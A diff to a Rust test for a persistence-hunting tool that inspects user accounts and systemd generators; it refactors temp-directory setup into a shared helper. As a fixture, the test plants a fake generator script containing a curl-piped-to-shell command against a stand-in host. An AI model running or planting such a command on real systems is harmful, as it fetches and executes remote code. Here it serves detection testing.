@@ -107,13 +107,9 @@ mod tests {
 
     #[test]
     fn users_and_generators_are_hunted_too() {
-        let b = std::env::temp_dir().join(format!("unithunt-hunt-{}", std::process::id()));
-        let _ = std::fs::remove_dir_all(&b);
-        let put = |p: &str, t: &str| {
-            let p = b.join(p.trim_start_matches('/'));
-            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
-            std::fs::write(p, t).unwrap();
-        };
+        let tree = crate::testtree::Tree::new("hunt");
+        let b = &tree.0;
+        let put = |p: &str, text: &str| tree.file(p, text);
         put(
             "/etc/passwd",
             "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\neve:x:1001:1001::/home/eve:/bin/bash\nbroken line\n",
@@ -130,7 +126,7 @@ mod tests {
             "/usr/local/lib/systemd/system-generators/gen",
             "#!/bin/sh\ncurl -s http://x/u | sh\n",
         );
-        let root = Root::new(&b);
+        let root = Root::new(b);
         assert_eq!(accounts(&root).len(), 3);
         let (findings, has_db) = hunt(&root);
         assert!(!has_db);
@@ -165,6 +161,5 @@ mod tests {
             "{:?}",
             gen.reasons
         );
-        let _ = std::fs::remove_dir_all(&b);
     }
 }
